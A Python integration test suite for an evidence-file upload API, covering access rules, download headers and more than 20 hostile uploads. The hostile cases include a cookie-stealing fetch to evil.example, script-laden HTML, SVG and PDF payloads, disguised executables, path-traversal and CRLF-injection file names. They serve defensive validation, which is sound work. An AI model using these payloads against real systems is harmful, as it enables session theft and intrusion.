"""Evidence files of applications over HTTP (issue 5, item 3): upload, list, download, delete
through /api/v1/applications/{id}/files, with the application's access check.

Skipped until the four routes are in src/http/routes.c (docs/openapi-files-fragment.yaml has
the lines).  The content rules themselves are unit-tested in tests/unit/test_evidence.c; here:
the HTTP contract (status codes, problem fields, the download headers), the access rules
(src/api/application_files.c: readers are those who see the application, changes only by the
applicant side while the application is open) and at least 20 hostile uploads end to end.
"""
import hashlib
import os
import re
import struct
import unittest
import urllib.parse
import zlib

import harness
import test_talents

TOWN = '350582102'        # 陈埭镇
OTHER_TOWN = '350582001'  # 青阳街道
ROUTES_C = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..', 'src', 'http',
                        'routes.c')


def routes_present():
    with open(ROUTES_C, encoding='utf-8') as f:
        src = f.read()
    return '"/api/v1/applications/{id}/files"' in src


PDF = (b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n'
       b'2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n'
       b'3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n'
       b'trailer<</Root 1 0 R>>\n%%EOF\n')


def pdf(tag):
    """A distinct valid PDF per tag (uploads of the same bytes are deduplicated)."""
    return PDF.replace(b'%PDF-1.4\n', b'%PDF-1.4\n% ' + tag.encode() + b'\n', 1)


def png_chunk(t, d):
    return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d))


def png(iend=True, ihdr=None):
    ihdr = ihdr or struct.pack('>IIBBBBB', 1, 1, 8, 2, 0, 0, 0)
    out = b'\x89PNG\r\n\x1a\n' + png_chunk(b'IHDR', ihdr) + png_chunk(
        b'IDAT', zlib.compress(b'\x00\x00\xff\x00'))
    return out + (png_chunk(b'IEND', b'') if iend else b'')


# an 8x8 grey baseline JPEG (one DC and one AC Huffman code)
JPEG = bytes([0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10]) + b'JFIF\0' + bytes([1, 1, 0, 0, 1, 0, 1, 0, 0]) \
    + bytes([0xFF, 0xDB, 0x00, 0x43, 0x00]) + bytes([1] * 64) \
    + bytes([0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00]) \
    + bytes([0xFF, 0xC4, 0x00, 0x14, 0x00, 0x01] + [0] * 15 + [0x00]) \
    + bytes([0xFF, 0xC4, 0x00, 0x14, 0x10, 0x01] + [0] * 15 + [0x00]) \
    + bytes([0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00, 0x3F, 0xFF, 0xD9])


@unittest.skipUnless(routes_present(), 'the evidence file routes are not in routes.c yet')
class ApplicationFiles(harness.ServerTest):

    @classmethod
    def setUpClass(cls):
        cls.server = harness.Server()
        s = cls.server
        s.token = s.staff_token('office', 'office_reviewer')
        cls.office = s.token
        r = s.request('POST', '/api/v1/enterprises', {
            'name': '晋江材料测试有限公司', 'credit_code': test_talents.uscc(701), 'town': TOWN})
        assert r.status == 201, r.body
        cls.eid = r.json['id']
        r = s.request('POST', '/api/v1/enterprises', {
            'name': '另一家材料测试有限公司', 'credit_code': test_talents.uscc(702), 'town': TOWN})
        cls.eid2 = r.json['id']
        cls.employer = s.staff_token('hr1', 'employer', '--enterprise-id', str(cls.eid))
        cls.employer2 = s.staff_token('hr2', 'employer', '--enterprise-id', str(cls.eid2))
        cls.town = s.staff_token('town', 'town_reviewer', '--town', TOWN)
        cls.other_town = s.staff_token('town2', 'town_reviewer', '--town', OTHER_TOWN)
        cls.tokens = {}
        cls.apps = {}
        for n in (1, 2, 3):
            r = s.request('POST', '/api/v1/talents', test_talents.talent_body(
                700 + n, town=TOWN, degree='master', enterprise_id=cls.eid))
            assert r.status == 201, r.body
            tid = r.json['id']
            tok = s.staff_token(f'talent{n}', 'talent', '--talent-id', str(tid))
            cls.tokens[n] = tok
            r = s.request('POST', '/api/v1/applications', {
                'kind': 'identification', 'claimed_tier': 5,
                'form': {'claims': [], 'statement': '申请'}},
                headers={'Authorization': 'Bearer ' + tok})
            assert r.status == 201, r.body
            cls.apps[n] = r.json['id']

    def as_(self, token, method, path, raw=None, headers=None):
        h = {'Authorization': 'Bearer ' + token}
        h.update(headers or {})
        return self.server.request(method, path, raw=raw, headers=h)

    def upload(self, n, data, name=None, token=None, headers=None, app=None):
        q = '?filename=' + urllib.parse.quote(name, safe='') if name is not None else ''
        h = {'Content-Type': 'application/octet-stream'}
        h.update(headers or {})
        return self.as_(token or self.tokens[n], 'POST',
                        f'/api/v1/applications/{app or self.apps[n]}/files{q}', data, h)

    def test_upload_list_download_delete(self):
        r = self.upload(1, pdf('a'), '../../学位证书.pdf')
        self.assertEqual(r.status, 201, r.body)
        f = r.json
        self.assertEqual(f['name'], '学位证书.pdf')          # the path is dropped
        self.assertEqual(f['content_type'], 'application/pdf')
        self.assertEqual(f['sha256'], hashlib.sha256(pdf('a')).hexdigest())
        self.assertFalse(f['duplicate'])
        self.assertEqual(r.header('Location'), f['download_url'])
        # the same bytes again: the same file, 200
        r = self.upload(1, pdf('a'), 'again.pdf')
        self.assertEqual((r.status, r.json['id'], r.json['duplicate']), (200, f['id'], True))
        # a PNG named .pdf keeps its real type, and an extension that says so
        r = self.upload(1, png(), 'id-card.pdf')
        self.assertEqual(r.status, 201, r.body)
        self.assertEqual((r.json['content_type'], r.json['name']), ('image/png', 'id-card.pdf.png'))
        r = self.upload(1, JPEG, headers={'X-File-Name': urllib.parse.quote('证件照.jpg')})
        self.assertEqual((r.status, r.json['name']), (201, '证件照.jpg'), r.body)

        r = self.as_(self.tokens[1], 'GET', f'/api/v1/applications/{self.apps[1]}/files')
        self.assertEqual(r.status, 200)
        self.assertEqual([x['name'] for x in r.json['items']],
                         ['学位证书.pdf', 'id-card.pdf.png', '证件照.jpg'])
        self.assertEqual(r.json['total_bytes'], len(pdf('a')) + len(png()) + len(JPEG))
        self.assertEqual(r.json['limit_bytes'], 50 * 1024 * 1024)

        # download: the bytes, as an attachment that no browser renders in the page
        for tok in (self.tokens[1], self.employer, self.town, self.office):
            r = self.as_(tok, 'GET', f['download_url'])
            self.assertEqual(r.status, 200, r.body)
            self.assertEqual(r.body, pdf('a'))
        self.assertEqual(r.header('Content-Type'), 'application/pdf')
        cd = r.header('Content-Disposition')
        self.assertTrue(cd.startswith('attachment;'), cd)
        self.assertIn("filename*=UTF-8''%E5%AD%A6%E4%BD%8D%E8%AF%81%E4%B9%A6.pdf", cd)
        self.assertEqual(r.header('X-Content-Type-Options'), 'nosniff')
        self.assertEqual(r.header('Cache-Control'), 'private, no-store')
        self.assertEqual(r.header('Content-Security-Policy'), 'sandbox')

        # delete: 204, then gone
        r = self.as_(self.tokens[1], 'DELETE', f['download_url'])
        self.assertEqual(r.status, 204, r.body)
        self.assertProblem(self.as_(self.tokens[1], 'GET', f['download_url']), 404)
        self.assertProblem(self.as_(self.tokens[1], 'DELETE', f['download_url']), 404)

        # every change and download is in the audit log
        r = self.server.request('GET', '/api/v1/audit?action=application_file.upload&limit=100',
                                headers={'Authorization': 'Bearer ' + self.auditor()})
        self.assertEqual(r.status, 200, r.body)
        self.assertGreaterEqual(r.json['total'], 3)

    _auditor = None

    def auditor(self):
        if not ApplicationFiles._auditor:
            ApplicationFiles._auditor = self.server.staff_token('aud', 'auditor')
        return ApplicationFiles._auditor

    def test_access(self):
        r = self.upload(2, pdf('b'), 'b.pdf')
        self.assertEqual(r.status, 201, r.body)
        url = r.json['download_url']
        files = f'/api/v1/applications/{self.apps[2]}/files'
        # someone who may not see the application: 404 as for a missing one
        for tok in (self.tokens[1], self.employer2, self.other_town):
            self.assertProblem(self.as_(tok, 'GET', files), 404)
            self.assertProblem(self.as_(tok, 'GET', url), 404)
        for tok in (self.tokens[1], self.employer2):
            self.assertProblem(self.upload(2, pdf('x'), 'x.pdf', token=tok), 404)
            self.assertProblem(self.as_(tok, 'DELETE', url), 404)
        # a role the routes do not list for changes: 403 before any object is looked at
        self.assertProblem(self.upload(2, pdf('x'), 'x.pdf', token=self.other_town), 403)
        # a file id of another application is not found through this one
        r = self.upload(3, pdf('c'), 'c.pdf')
        other = r.json['id']
        self.assertProblem(self.as_(self.tokens[2], 'GET', f'{files}/{other}'), 404)
        self.assertProblem(self.as_(self.tokens[2], 'GET', f'{files}/abc'), 404)
        # reviewers read but do not change the applicant's evidence
        self.assertProblem(self.upload(2, pdf('y'), 'y.pdf', token=self.town), 403)
        self.assertProblem(self.as_(self.office, 'DELETE', url), 403)
        # the employer of the talent may add evidence on their behalf
        r = self.upload(2, pdf('z'), 'z.pdf', token=self.employer)
        self.assertEqual(r.status, 201, r.body)

    def test_frozen_after_withdrawal(self):
        r = self.upload(3, pdf('before'), 'before.pdf')
        self.assertEqual(r.status, 201, r.body)
        url = r.json['download_url']
        r = self.as_(self.tokens[3], 'POST', f'/api/v1/applications/{self.apps[3]}/actions',
                     headers={'Content-Type': 'application/json'},
                     raw=b'{"action":"withdraw","comment":"\xe6\x92\xa4\xe5\x9b\x9e"}')
        self.assertEqual(r.status, 200, r.body)
        self.assertProblem(self.upload(3, pdf('after'), 'after.pdf'), 409, 'files_frozen')
        self.assertProblem(self.as_(self.tokens[3], 'DELETE', url), 409, 'files_frozen')
        self.assertEqual(self.as_(self.tokens[3], 'GET', url).status, 200)   # still readable

    def test_hostile_uploads(self):
        big = b'%PDF-1.4\n' + b'x' * (10 * 1024 * 1024)
        cases = [
            # (what, bytes, name, status, field, code)
            ('MZ executable named .pdf', b'MZ\x90\x00' + b'\x00' * 200, 'invoice.pdf',
             422, 'file', 'executable'),
            ('ELF executable named .pdf', b'\x7fELF\x02\x01\x01' + b'\x00' * 100, 'cv.pdf',
             422, 'file', 'executable'),
            ('HTML named .pdf', b'<!doctype html><script>alert(1)</script>', 'diploma.pdf',
             422, 'file', 'html'),
            ('SVG named .png', b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
             'photo.png', 422, 'file', 'html'),
            ('JS file', b'fetch("https://evil.example/?c=" + document.cookie);\n', 'a.pdf',
             422, 'file', 'text'),
            ('docx', b'PK\x03\x04\x14\x00\x06\x00' + b'[Content_Types].xml' + b'\x00' * 50,
             'cv.docx', 422, 'file', 'archive'),
            ('zero bytes', b'', 'empty.pdf', 422, 'file', 'empty'),
            ('10 MB + 1', big[:10 * 1024 * 1024 + 1], 'big.pdf', 413, None, None),
            ('truncated PDF', PDF[:-7], 'cut.pdf', 422, 'file', 'pdf_truncated'),
            ('junk before the PDF header', b'JUNK' + PDF, 'junk.pdf', 422, 'file', 'pdf_offset'),
            ('PDF with JavaScript', PDF.replace(b'/Type/Catalog', b'/Type/Catalog/OpenAction'
                                                b'<</S/JavaScript/JS(app.alert(1))>>'),
             'js.pdf', 422, 'file', 'pdf_active_content'),
            ('PNG with a bad CRC', png()[:30] + bytes([png()[30] ^ 1]) + png()[31:], 'crc.png',
             422, 'file', 'png_bad_crc'),
            ('PNG without IEND', png(iend=False), 'noend.png', 422, 'file', 'png_no_iend'),
            ('JPEG without EOI', JPEG[:-2], 'noeoi.jpg', 422, 'file', 'jpeg_no_eoi'),
            ('JPEG header then HTML', b'\xff\xd8\xff\xe0<html><script>alert(1)</script>',
             'x.jpg', 422, 'file', 'html'),
            ('JPEG with a zip after EOI', JPEG + b'PK\x03\x04', 'poly.jpg', 422, 'file',
             'jpeg_bad'),
            ('path traversal', pdf('t1'), '../../etc/passwd', 201, None, 'passwd.pdf'),
            ('backslash traversal', pdf('t2'), '..\\..\\win.ini', 201, None, 'win.ini.pdf'),
            ('absolute path', pdf('t3'), '/etc/shadow', 201, None, 'shadow.pdf'),
            ('NUL in the name', pdf('t4'), 'a.pdf\x00.exe', 422, 'filename', 'name_nul'),
            ('bidi override', pdf('t5'), 'photo\u202egpj.exe', 422, 'filename', 'name_bidi'),
            ('overlong name', pdf('t6'), 'a' * 300 + '.pdf', 422, 'filename', 'name_too_long'),
            ('CR LF in the name', pdf('t7'), 'a\r\nSet-Cookie: x=1.pdf', 422, 'filename',
             'name_control'),
        ]
        for what, data, name, status, field, code in cases:
            with self.subTest(what):
                r = self.upload(2, data, name)
                if status == 201:
                    self.assertEqual(r.status, 201, r.body)
                    self.assertEqual(r.json['name'], code)
                    continue
                p = self.assertProblem(r, status)
                if field:
                    self.assertEqual(p['code'], 'validation_failed')
                    self.assertEqual([(e['field'], e['code']) for e in p['errors']],
                                     [(field, code)])
        # invalid UTF-8 in a percent-encoded X-File-Name
        r = self.upload(2, pdf('u'), headers={'X-File-Name': '%FF%FE.pdf'})
        self.assertProblem(r, 422, 'validation_failed', 'filename')
        # an English caller gets the English reason
        r = self.upload(2, b'MZ' + b'\x00' * 64, 'x.pdf', headers={'Accept-Language': 'en'})
        self.assertIn('executable', r.json['detail'])


if __name__ == '__main__':
    unittest.main()
